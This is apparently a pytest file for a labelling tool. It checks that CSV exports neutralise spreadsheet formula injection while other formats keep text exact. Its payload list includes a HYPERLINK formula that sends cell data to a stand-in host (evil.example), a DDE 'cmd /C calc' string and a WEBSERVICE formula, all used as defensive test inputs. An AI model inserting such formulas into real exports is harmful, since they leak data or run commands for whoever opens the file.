"""CSV exports never hand a spreadsheet a formula; every other format keeps the text exact."""

from __future__ import annotations

import csv
import json

import pytest

from labelloop.data.export import neutralise_cell, restore_cell
from labelloop.labelers.base import LabelResult
from labelloop.workflows.exchange import export_project, import_project

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=already quoted",
]
#: Texts a spreadsheet shows as written: they stay as they are in CSV too.
HARMLESS = ["'tis fine", "plain text", "2+3", "a=b"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A label and an annotator name that start like formulas, and reasoning that does.
LABELS = ("-neg", "@pos")


@pytest.fixture
def project(make_project):
    project = make_project(labels=LABELS)
    texts = PAYLOADS + HARMLESS
    project.add_items(
        [{"id": f"i{n}", "text": t, "note": "=1+1"} for n, t in enumerate(texts)], id_col="id"
    )
    project.add_items([{"id": "=1+2", "text": "an id that is a formula"}], id_col="id")
    first = project.item_id("i0")
    project.save_predictions(
        "=model", "p1", [(first, LabelResult("@pos", None, 0.7, reasoning="=WEBSERVICE(A1)"))]
    )
    project.set_active_predictor("=model", "p1")
    project.annotate("i1", action="label", label="-neg", annotator="=evil")
    return project


def csv_cells(path):
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[1:]


def test_no_csv_cell_starts_like_a_formula(project, tmp_path):
    out = tmp_path / "out.csv"
    export_project(project, out, "csv", include="all")
    header, rows = csv_cells(out)
    cells = [cell for row in rows for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    by_id = {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in rows}
    texts = {by_id[f"i{n}"]["text"] for n in range(len(PAYLOADS))}
    assert texts == {"'" + t for t in PAYLOADS}
    for n, text in enumerate(HARMLESS, start=len(PAYLOADS)):
        assert by_id[f"i{n}"]["text"] == text
    assert by_id["i0"]["reasoning"] == "'=WEBSERVICE(A1)"
    assert by_id["i0"]["model"] == "'=model"
    assert by_id["i0"]["llm_label"] == "'@pos"
    assert by_id["i1"]["label"] == "'-neg"
    assert "'=1+2" in by_id  # the id column too
    # Nested values are JSON text (starting with { or [), and a spreadsheet does not evaluate them.
    assert json.loads(by_id["i1"]["annotators"]) == ["=evil"]
    assert json.loads(by_id["i1"]["meta"]) == {"note": "=1+1"}


def test_csv_export_reads_back_exactly(project, make_project, tmp_path):
    out = tmp_path / "out.csv"
    export_project(project, out, "csv", include="all")
    target = make_project(labels=LABELS, name="target")
    import_project(target, out, "labelloop")
    source_rows = {r["id"]: r for r in project.iter_export_rows()}
    target_rows = {r["id"]: r for r in target.iter_export_rows()}
    assert source_rows == target_rows
    assert {r["text"] for r in target_rows.values()} >= set(PAYLOADS + HARMLESS)


@pytest.mark.parametrize("fmt", ["jsonl", "parquet", "labelstudio", "prodigy"])
def test_other_formats_keep_texts_exact(project, tmp_path, fmt):
    out = tmp_path / f"out.{fmt}"
    export_project(project, out, fmt, include="all")
    if fmt == "parquet":
        import pyarrow.parquet as pq

        texts = pq.read_table(out).column("text").to_pylist()
    elif fmt == "labelstudio":
        texts = [task["data"]["text"] for task in json.loads(out.read_text())]
    else:
        texts = [json.loads(line)["text"] for line in out.read_text().splitlines()]
    assert set(texts) >= set(PAYLOADS)
    if fmt == "jsonl":
        rows = {json.loads(line)["id"]: json.loads(line) for line in out.read_text().splitlines()}
        assert rows["i0"]["reasoning"] == "=WEBSERVICE(A1)"
        assert rows["i1"]["annotators"] == ["=evil"]
        assert "=1+2" in rows


@pytest.mark.parametrize("text", PAYLOADS + HARMLESS + ["", "'", "''=x", "'''"])
def test_restore_undoes_neutralise(text):
    written = neutralise_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert restore_cell(written) == text


def test_numbers_are_left_alone():
    assert neutralise_cell(-1.5) == -1.5 and neutralise_cell(None) is None
